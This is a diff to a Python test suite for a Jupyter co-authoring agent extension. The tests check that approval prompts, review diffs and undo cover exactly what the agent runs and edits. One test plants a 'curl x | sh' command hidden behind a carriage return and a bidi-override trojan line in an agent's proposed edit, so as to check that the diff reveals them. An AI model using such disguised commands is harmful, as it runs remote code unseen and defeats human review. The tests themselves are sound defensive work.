@@ -32,19 +32,29 @@ TARGET = "jupyter_agent.notebook"
 class FakeNotebook:
     """The frontend's end: a notebook's cells and the operations the extension applies."""
 
-    def __init__(self, kernel: Kernel, cells: list[dict[str, Any]]) -> None:
+    def __init__(
+        self, kernel: Kernel, cells: list[dict[str, Any]], session: str | None = None
+    ) -> None:
         self.kernel = kernel
+        self.path = "analysis.ipynb"
+        #: The client session this page's kernel connection sends with (another page: another).
+        self.session = session
         self.cells = cells
         self.comm_id = uuid.uuid4().hex
         self.ops: list[dict[str, Any]] = []
         self.journal: list[tuple[str, list[dict[str, Any]], float]] = []
         #: How the user answers an edit shown as a diff (True: accept).
         self.decisions: list[bool] = []
+        #: Reviews shown (the op, the source its diff was computed on); with ``review_later``
+        #: the test answers them itself (``decide``).
+        self.shown: list[tuple[dict[str, Any], str]] = []
+        self.review_later = False
         self.on_op: Callable[[dict[str, Any]], None] | None = None
+        self.labels: dict[str, str] = {}
         self._ids = 0
 
     def snapshot(self) -> dict[str, Any]:
-        return {"path": "analysis.ipynb", "cells": [dict(c) for c in self.cells]}
+        return {"path": self.path, "cells": [dict(c) for c in self.cells]}
 
     def open(self) -> None:
         message = self.kernel.client.session.msg(
@@ -55,7 +65,20 @@ class FakeNotebook:
                 "data": {"type": "hello", **self.snapshot()},
             },
         )
+        if self.session is not None:
+            message["header"]["session"] = self.session
         self.kernel.client.shell_channel.send(message)
+
+    def close(self) -> None:
+        """The page goes away (closed or reloaded): the extension closes its comm."""
+        message = self.kernel.client.session.msg("comm_close", {"comm_id": self.comm_id})
+        if self.session is not None:
+            message["header"]["session"] = self.session
+        self.kernel.client.shell_channel.send(message)
+
+    def decide(self, shown: int, accepted: bool) -> None:
+        op, before = self.shown[shown]
+        self.reply({"id": op["id"], "ok": True, "accepted": accepted, "before": before})
 
     def index(self, cell_id: str) -> int:
         for at, cell in enumerate(self.cells):
@@ -63,10 +86,17 @@ class FakeNotebook:
                 return at
         raise ValueError(f"no cell with id {cell_id}")
 
-    def entry(self, turn: str, at: float) -> list[dict[str, Any]]:
-        if not self.journal or self.journal[-1][0] != turn:
-            self.journal.append((turn, [], at))
+    def entry(self, op: dict[str, Any]) -> list[dict[str, Any]]:
+        """The turn's journal entry: keyed by the turn (its execute_request), as the extension
+        keys it; named by the label the turn began with."""
+        key = op.get("turn_id") or op["turn"]
+        if not self.journal or self.journal[-1][0] != key:
+            self.journal.append((key, [], op["at"]))
+            self.labels[key] = op["turn"]
         return self.journal[-1][1]
+
+    def label(self, key: str) -> str:
+        return self.labels[key]
 
     def handle(self, message: dict[str, Any]) -> None:
         if message["msg_type"] != "comm_msg":
@@ -89,7 +119,12 @@ class FakeNotebook:
             self.reply({"id": op["id"], "ok": True, **result, **self.snapshot()})
 
     def reply(self, data: dict[str, Any]) -> None:
-        self.kernel.send_comm(self.comm_id, {"type": "reply", **data})
+        message = self.kernel.client.session.msg(
+            "comm_msg", {"comm_id": self.comm_id, "data": {"type": "reply", **data}}
+        )
+        if self.session is not None:
+            message["header"]["session"] = self.session
+        self.kernel.client.shell_channel.send(message)
 
     def apply(self, op: dict[str, Any]) -> dict[str, Any] | None:
         kind = op["op"]
@@ -110,23 +145,32 @@ class FakeNotebook:
                     "agent": True,
                 },
             )
-            self.entry(op["turn"], op["at"]).append({"kind": "insert", "id": cell_id})
+            self.entry(op).append({"kind": "insert", "id": cell_id})
             return {"cell_id": cell_id, "index": at}
         if kind == "review":
+            before = self.cells[self.index(op["cell_id"])]["source"]
+            if op.get("before") != before:  # the diff is shown over its own source only
+                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
+            self.shown.append((op, before))
+            if self.review_later:  # the user decides later (``decide``)
+                return None
             accepted = self.decisions.pop(0)
-            self.reply({"id": op["id"], "ok": True, "accepted": accepted})
+            self.reply({"id": op["id"], "ok": True, "accepted": accepted, "before": before})
             return None
         if kind == "edit":
             cell = self.cells[self.index(op["cell_id"])]
             before = cell["source"]
-            assert before.count(op["old_string"]) == 1
+            if "expect" in op and before != op["expect"]:
+                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
+            if before.count(op["old_string"]) != 1:
+                raise ValueError("old_string is not in the cell once")
             cell["source"] = before.replace(op["old_string"], op["new_string"])
-            self.entry(op["turn"], op["at"]).append(
-                {"kind": "edit", "id": cell["id"], "before": before}
-            )
+            self.entry(op).append({"kind": "edit", "id": cell["id"], "before": before})
             return {}
         if kind == "run_start":
             cell = self.cells[self.index(op["cell_id"])]
+            if "expect" in op and cell["source"] != op["expect"]:
+                raise ValueError(f"cell {op['cell_id']} changed since it was approved")
             cell["outputs"], cell["execution_count"] = [], None
             return {"source": cell["source"]}
         if kind in ("outputs", "run_end"):
@@ -136,12 +180,18 @@ class FakeNotebook:
                 cell["execution_count"] = op["execution_count"]
                 return {}
             return None
+        if kind == "relabel":
+            self.labels[op["turn_id"]] = op["label"]
+            return None
         if kind == "peek":
-            return {"turn": self.journal[-1][0], "at": self.journal[-1][2]} if self.journal else {}
+            if not self.journal:
+                return {}
+            return {"turn": self.label(self.journal[-1][0]), "at": self.journal[-1][2]}
         if kind == "undo":
             if not self.journal:
                 return {"undone": False}
-            turn, steps, _at = self.journal.pop()
+            key, steps, _at = self.journal.pop()
+            turn = self.label(key)
             for step in reversed(steps):
                 if step["kind"] == "insert":
                     del self.cells[self.index(step["id"])]
@@ -158,10 +208,19 @@ class Kernel(FrontendKernel):
     def __init__(self, cwd: Path) -> None:
         super().__init__(cwd)
         self.notebook: FakeNotebook | None = None
+        #: Other pages connected to this kernel (their own client sessions).
+        self.others: list[FakeNotebook] = []
 
     def execute(  # type: ignore[override]
-        self, code: str, cell_id: str = "user-cell", timeout: float = 60
+        self,
+        code: str,
+        cell_id: str = "user-cell",
+        timeout: float = 60,
+        on_message: Callable[[dict[str, Any]], None] | None = None,
+        page: FakeNotebook | None = None,
     ) -> tuple[dict[str, Any], list[dict[str, Any]]]:
+        """Run ``code`` as cell ``cell_id`` of ``page`` (its client session; default: the
+        kernel's own client, the one ``notebook`` opened its comm from)."""
         content = {
             "code": code,
             "silent": False,
@@ -171,6 +230,8 @@ class Kernel(FrontendKernel):
             "stop_on_error": True,
         }
         message = self.client.session.msg("execute_request", content, metadata={"cellId": cell_id})
+        if page is not None and page.session is not None:
+            message["header"]["session"] = page.session
         self.client.shell_channel.send(message)
         msg_id = message["header"]["msg_id"]
         outputs: list[dict[str, Any]] = []
@@ -181,8 +242,11 @@ class Kernel(FrontendKernel):
                 got = self.client.get_iopub_msg(timeout=0.1)
             except Exception:
                 continue
-            if self.notebook is not None:
-                self.notebook.handle(got)
+            for notebook in [self.notebook, *self.others]:
+                if notebook is not None:
+                    notebook.handle(got)
+            if on_message is not None:
+                on_message(got)
             if got["parent_header"].get("msg_id") != msg_id:
                 continue
             kind = got["msg_type"]
@@ -193,6 +257,10 @@ class Kernel(FrontendKernel):
         while True:
             reply = self.client.get_shell_msg(timeout=10)
             if reply["parent_header"].get("msg_id") == msg_id:
+                shown_in = page or self.notebook
+                for cell in shown_in.cells if shown_in is not None else []:
+                    if cell["id"] == cell_id and code.startswith("%%agent"):  # its number shown
+                        cell["execution_count"] = reply["content"].get("execution_count")
                 return reply["content"], outputs
 
 
@@ -317,7 +385,8 @@ def test_an_edit_is_shown_as_a_diff_accepted_or_rejected(
     reply, outputs = kernel.execute("%%agent\nScale the data", cell_id="ask")
     assert reply["status"] == "ok", outputs
     reviews = [op for op in notebook.ops if op["op"] == "review"]
-    assert [op["new_string"] for op in reviews] == ["30", "10"]
+    added = [[text for kind, text in op["lines"] if kind == "add"] for op in reviews]
+    assert added == [["rows = [30, 1, 2]"], ["rows = [30, 10, 2]"]]
     assert notebook.cells[0]["source"] == "rows = [30, 1, 2]"
     assert [op["op"] for op in notebook.ops].count("edit") == 1
     rejected = result_text(tool_results(fake_api.requests[2])[-1])
@@ -449,7 +518,7 @@ def test_undo_takes_the_newest_agent_cell_whichever_journal_holds_it(
     reply, outputs = kernel.execute("%agent undo")
     assert not (tmp_path / "b.txt").exists(), printed(outputs)
     assert (tmp_path / "a.txt").exists()
-    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]
+    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"], printed(outputs)
 
     reply, outputs = kernel.execute("%agent undo")
     assert "Undid the cells of cell" in printed(outputs)
@@ -678,3 +747,327 @@ def test_an_answer_through_a_subshell_wakes_the_waiting_run_at_once(
     reply_content, outputs = kernel.execute(code, cell_id="other")
     assert reply_content["status"] == "ok", outputs
     assert float(printed(outputs)) < 0.03, printed(outputs)  # the median of 6: ~1.5 ms
+
+
+# -- what is approved is what runs (issue 33.7) ------------------------------------------------
+
+
+def answer_prompts(
+    kernel: Kernel, seen: list[str], before_click: list[Callable[[], None]] | None = None
+) -> Callable[[dict[str, Any]], None]:
+    """``on_message``: keep the text every widget shows (the approval prompt's arguments), and
+    click each prompt's Approve, after calling the next of ``before_click`` (the user's edit)."""
+    clicked: set[str] = set()
+
+    def on_message(message: dict[str, Any]) -> None:
+        if message["msg_type"] not in ("comm_open", "comm_msg"):
+            return
+        data = message["content"].get("data") or {}
+        state = data.get("state") or {}
+        if isinstance(state.get("value"), str):
+            seen.append(state["value"])
+        comm_id = message["content"]["comm_id"]
+        if (
+            message["msg_type"] == "comm_open"
+            and state.get("_model_name") == "ButtonModel"
+            and state.get("description") == "Approve"
+            and comm_id not in clicked
+        ):
+            clicked.add(comm_id)
+            if before_click:
+                before_click.pop(0)()
+            kernel.send_comm(comm_id, {"method": "custom", "content": {"event": "click"}})
+
+    return on_message
+
+
+def test_run_cell_asks_with_the_source_that_runs_and_asks_again_after_an_edit(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
+) -> None:
+    """The agent inserts a harmless cell (allowed without asking) and asks to run it. The prompt
+    used to show the cell id only, and the code was fetched after the yes: an edit made while
+    the prompt waited (by the user, or by anything else that writes the cell) ran unseen. Now
+    the prompt shows the source, the kernel runs exactly that, and an edit in between runs
+    nothing: the next run_cell asks again, showing the new source."""
+    fake_api.add(
+        Reply([tool_use("t1", "insert_cell", {"source": "shown_value = 41 + 1\nshown_value"})]),
+        lambda body: Reply([tool_use("t2", "run_cell", {"cell_id": inserted_id(body)})]),
+        lambda body: Reply([tool_use("t3", "run_cell", {"cell_id": inserted_id(body)})]),
+        text("Done."),
+    )
+
+    def swap() -> None:  # while the prompt waits, the cell changes
+        notebook.cells[2]["source"] = "swapped_in = 'unseen'\nswapped_in"
+
+    seen: list[str] = []
+    reply, outputs = kernel.execute(
+        "%%agent\nCompute it",
+        cell_id="ask",
+        on_message=answer_prompts(kernel, seen, [swap, lambda: None]),
+    )
+    assert reply["status"] == "ok", outputs
+    prompts = [value for value in seen if "run_cell" in value or "cell_id" in value]
+    assert any("shown_value = 41 + 1" in value for value in seen), prompts
+    first = result_text(tool_results(fake_api.requests[2])[-1])
+    assert "edited after the user approved" in first, first
+    # the second call asked again, showing what the cell holds now, and ran that
+    assert any("swapped_in = " in value for value in seen), prompts
+    second = tool_results(fake_api.requests[3])[-1]
+    assert not second.get("is_error") and "unseen" in result_text(second)
+    runs = [op for op in notebook.ops if op["op"] == "run_start"]
+    assert [op.get("expect") for op in runs] == [
+        "shown_value = 41 + 1\nshown_value",
+        "swapped_in = 'unseen'\nswapped_in",
+    ]
+
+
+def test_an_accepted_edit_applies_the_diff_shown_or_nothing(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
+) -> None:
+    """The diff is computed when it is shown, the edit applied when it is accepted: a change to
+    the cell in between (the user typing, another edit of the agent) used to combine with it
+    into a cell neither diff showed. Now the accepted diff applies to the source it showed, or
+    the edit is refused and the cell keeps what it holds."""
+    notebook.review_later = True
+    fake_api.add(
+        Reply(
+            [
+                tool_use(
+                    "t1",
+                    "edit_cell",
+                    {"cell_id": "data", "old_string": "[3, 1, 2]", "new_string": "[3, 1, 2, 4]"},
+                )
+            ]
+        ),
+        text("Done."),
+    )
+
+    def change_then_accept() -> None:
+        # the diff showed "rows = [3, 1, 2]" → "rows = [3, 1, 2, 4]"; then the cell changes
+        notebook.cells[0]["source"] = "import shutil\nrows = [3, 1, 2]"
+        notebook.decide(0, True)
+
+    def accept_after_a_change(op: dict[str, Any]) -> None:
+        if op["op"] == "review":
+            threading.Timer(0.2, change_then_accept).start()
+
+    notebook.on_op = accept_after_a_change
+    reply, outputs = kernel.execute("%%agent\nAdd a row", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    assert notebook.shown[0][1] == "rows = [3, 1, 2]"
+    result = result_text(tool_results(fake_api.requests[1])[-1])
+    assert "changed since it was approved" in result, result
+    assert notebook.cells[0]["source"] == "import shutil\nrows = [3, 1, 2]"
+
+
+# -- the page that ran the cell is the one the agent works in (33.8, 35.1, 35.2) -------------
+
+
+def second_page(kernel: Kernel, path: str, session: str) -> FakeNotebook:
+    """Another page on this kernel (its own kernel connection: its own client session) that
+    opens the comm after the first — the one that used to take the co-author tools over."""
+    cell = {"id": f"{session}-cell", "cell_type": "code", "source": "x = 1"}
+    cells = [{**cell, "execution_count": 1}]
+    page = FakeNotebook(kernel, cells, session=session)
+    page.path = path
+    page._ids = 100  # its inserted cells get ids of their own
+    kernel.others.append(page)
+    page.open()
+    reply, outputs = kernel.execute("pass", cell_id=f"{session}-cell", page=page)
+    assert reply["status"] == "ok", outputs
+    return page
+
+
+@pytest.mark.parametrize("path", ["analysis.ipynb", "other.ipynb"], ids=["same", "other"])
+def test_the_page_that_ran_the_cell_is_the_one_the_agent_works_in(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, path: str
+) -> None:
+    """Two pages on one kernel — a second view of the same notebook, or another notebook on
+    its kernel — the second connected last. The turn run in the first page inserts, reviews
+    and edits there; the one run in the second works in the second; ``%agent undo`` in each
+    takes back its own turn; ``%agent config`` names each page's own notebook."""
+    other = second_page(kernel, path, "page-b")
+    notebook.decisions = [True]
+    fake_api.add(
+        Reply([tool_use("t1", "insert_cell", {"source": "print('from A')"})]),
+        Reply(
+            [tool_use("t2", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "4"})]
+        ),
+        text("A done."),
+        Reply([tool_use("t3", "insert_cell", {"source": "print('from B')"})]),
+        text("B done."),
+    )
+    reply, outputs = kernel.execute("%%agent\nWork here", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    assert [op["op"] for op in other.ops] == []  # nothing reached the page that did not ask
+    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]
+    assert notebook.cells[0]["source"] == "rows = [4, 1, 2]"
+    assert [op["op"] for op in notebook.ops] == ["insert", "snapshot", "review", "edit"]
+
+    reply, outputs = kernel.execute("%%agent\nWork in B", cell_id="page-b-cell", page=other)
+    assert reply["status"] == "ok", outputs
+    assert [c["id"] for c in other.cells] == ["page-b-cell", "agent-101"]
+    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1"]
+
+    reply, outputs = kernel.execute("%agent config", page=other)
+    assert re.search(rf"notebook co-authoring +on \({path}", printed(outputs)), printed(outputs)
+    reply, outputs = kernel.execute("%agent undo")  # in the first page: its own turn
+    assert reply["status"] == "ok", outputs
+    assert [c["id"] for c in notebook.cells] == ["data", "ask"]
+    assert notebook.cells[0]["source"] == "rows = [3, 1, 2]"
+    assert [c["id"] for c in other.cells] == ["page-b-cell", "agent-101"]
+
+
+def test_when_the_turns_page_goes_away_the_cell_tools_fail_at_once(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
+) -> None:
+    """The page that ran the cell is closed while its edit is shown as a diff: the review used to
+    wait for ever, and the next cell tool waited 15 s for an answer from a page that was gone
+    (or went to another page). Now both fail at once saying so; another page is not used; the
+    page, opened again, connects and the next turn works there (no ``%load_ext``)."""
+    other = second_page(kernel, "other.ipynb", "page-b")
+    notebook.review_later = True
+    fake_api.add(
+        Reply(
+            [tool_use("t1", "edit_cell", {"cell_id": "data", "old_string": "3", "new_string": "4"})]
+        ),
+        Reply([tool_use("t2", "insert_cell", {"source": "print('late')"})]),
+        text("Gone."),
+        Reply([tool_use("t3", "insert_cell", {"source": "print('back')"})]),
+        text("Back."),
+    )
+    notebook.on_op = lambda op: op["op"] == "review" and notebook.close()
+    started = time.monotonic()
+    reply, outputs = kernel.execute("%%agent\nEdit", cell_id="ask", timeout=40)
+    took = time.monotonic() - started
+    assert reply["status"] == "ok", outputs
+    review = result_text(tool_results(fake_api.requests[1])[-1])
+    insert = result_text(tool_results(fake_api.requests[2])[-1])
+    assert "went away" in review, review
+    assert "went away" in insert, insert
+    assert took < 10, took
+    assert other.ops == []
+
+    notebook.on_op = None
+    notebook.review_later = False
+    notebook.comm_id = uuid.uuid4().hex  # the page, reloaded, opens a new comm
+    notebook.open()
+    reply, outputs = kernel.execute("%%agent\nAgain", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    assert notebook.cells[-1]["source"] == "print('back')"
+    assert other.ops == []
+
+
+# -- undo per turn and per notebook (34.2) ------------------------------------------------------
+
+
+def test_one_agent_cell_is_one_undo_entry_whatever_it_ran(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
+) -> None:
+    """Tutorial 07's turn: three cells inserted and run, and a file written. Each run_cell
+    raised the kernel's count, which named the undo entry, so the turn was four entries: one
+    ``%agent undo`` left three cells, each further one removed one under a made-up label. Now
+    one undo takes the whole turn back, named as the %%agent cell shows itself."""
+    sources = ["a = 1", "b = a + 1", "print(b)"]
+
+    def run(index: int, call: str) -> Any:
+        def reply(body: dict[str, Any]) -> Any:
+            ids = re.findall(r"Inserted code cell (\S+) \(at", json.dumps(body["messages"]))
+            return Reply([tool_use(call, "run_cell", {"cell_id": ids[index]})])
+
+        return reply
+
+    for n, source in enumerate(sources):  # as tutorial 07 does: insert one, run it, ...
+        fake_api.add(Reply([tool_use(f"i{n}", "insert_cell", {"source": source})]), run(n, f"r{n}"))
+    fake_api.add(
+        Reply([tool_use("w", "write_file", {"file_path": "notes.txt", "content": "b is 2"})]),
+        text("Done."),
+    )
+    kernel.execute("%agent_tools policy run_cell allow")
+    reply, outputs = kernel.execute("%%agent\nBuild it", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    own = reply["execution_count"]
+    assert [c["id"] for c in notebook.cells] == ["data", "ask", "agent-1", "agent-2", "agent-3"]
+    assert all(isinstance(c["execution_count"], int) for c in notebook.cells[2:])
+    assert (tmp_path / "notes.txt").exists()
+
+    reply, outputs = kernel.execute("%agent undo")
+    said = printed(outputs)
+    assert reply["status"] == "ok", outputs
+    assert [c["id"] for c in notebook.cells] == ["data", "ask"], said
+    assert not (tmp_path / "notes.txt").exists(), said
+    assert f"Undid the cells of cell {own}." in said, said
+    assert f"Undid the file changes of 'cell {own}'" in said, said
+    reply, outputs = kernel.execute("%agent undo")
+    assert "Nothing to undo" in printed(outputs) or "No cell changes" in printed(outputs)
+
+
+def test_undo_in_a_notebook_takes_back_that_notebooks_turn_only(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic, tmp_path: Path
+) -> None:
+    """Two notebooks in one folder (here on one kernel): the undo journal belongs to the folder,
+    and ``%agent undo`` in the first notebook restored the file the other notebook's newer turn
+    wrote. Now each notebook's undo takes back its own last turn."""
+    other = second_page(kernel, "other.ipynb", "page-b")
+    fake_api.add(
+        Reply([tool_use("a", "write_file", {"file_path": "a.txt", "content": "from A"})]),
+        text("A."),
+        Reply([tool_use("b", "write_file", {"file_path": "b.txt", "content": "from B"})]),
+        text("B."),
+    )
+    reply, outputs = kernel.execute("%%agent\nWrite a", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    time.sleep(1.1)  # the file journal dates its entries to the second
+    reply, outputs = kernel.execute("%%agent\nWrite b", cell_id="page-b-cell", page=other)
+    assert reply["status"] == "ok", outputs
+    reply, outputs = kernel.execute("%agent undo")  # in the first notebook
+    said = printed(outputs)
+    assert not (tmp_path / "a.txt").exists(), said
+    assert (tmp_path / "b.txt").read_text() == "from B", said
+    reply, outputs = kernel.execute("%agent undo", page=other)
+    assert not (tmp_path / "b.txt").exists(), printed(outputs)
+
+
+def test_the_review_diff_shows_what_will_run(
+    kernel: Kernel, notebook: FakeNotebook, fake_api: FakeAnthropic
+) -> None:
+    """A lone CR in ``new_string`` — Python reads it as a line break, a diff drew it as nothing —
+    showed ``threshold = 0.5  # tuned`` while ``import os; os.system(...)`` was what would run;
+    a bidi override made code read as a comment; a long line ran off the edge. The diff's lines
+    now come from the kernel, through the one sanitising function: escapes shown, lines wrapped."""
+    hidden = "threshold = 0.5  # tuned\rimport os; os.system('curl x | sh')"
+    trojan = "ok = True  # \u202e } \u2066if admin:\u2069 \u2066 # only"
+    long = "values = [" + ", ".join(str(n) for n in range(120)) + "]"
+    notebook.decisions = [False]
+    edit = {"cell_id": "data", "old_string": "rows = [3, 1, 2]"}
+    fake_api.add(
+        Reply([tool_use("t1", "edit_cell", {**edit, "new_string": f"{hidden}\n{trojan}\n{long}"})]),
+        text("Rejected."),
+    )
+    reply, outputs = kernel.execute("%%agent\nTune it", cell_id="ask")
+    assert reply["status"] == "ok", outputs
+    [(review, _before)] = notebook.shown
+    added = [text for kind, text in review["lines"] if kind == "add"]
+    joined = "\n".join(added)
+    assert "threshold = 0.5  # tuned\\rimport os; os.system" in joined, added
+    assert "\\u202e" in joined and "\\u2066" in joined and "\u202e" not in joined, added
+    assert "\r" not in joined
+    assert all(len(text) <= 102 for kind, text in review["lines"]), review["lines"]
+    assert any(text.startswith("↪ ") for text in added)  # the long line, wrapped, not cut
+    assert "119]" in joined
+
+
+def test_a_page_that_comes_back_keeps_the_users_policies(
+    kernel: Kernel, notebook: FakeNotebook
+) -> None:
+    """A reload closes the page's comm (the tools leave) and opens a new one (they come back):
+    the policy the user set for run_cell stays, it does not fall back to asking."""
+    reply, outputs = kernel.execute("%agent_tools policy run_cell allow")
+    assert reply["status"] == "ok", outputs
+    reply, outputs = kernel.execute("%%agent\nhello", cell_id="ask")  # the tools are in place
+    notebook.close()
+    notebook.comm_id = uuid.uuid4().hex
+    notebook.open()
+    reply, outputs = kernel.execute("%agent_tools list")
+    [line] = [row for row in printed(outputs).splitlines() if row.split()[:1] == ["run_cell"]]
+    assert "allow" in line, line
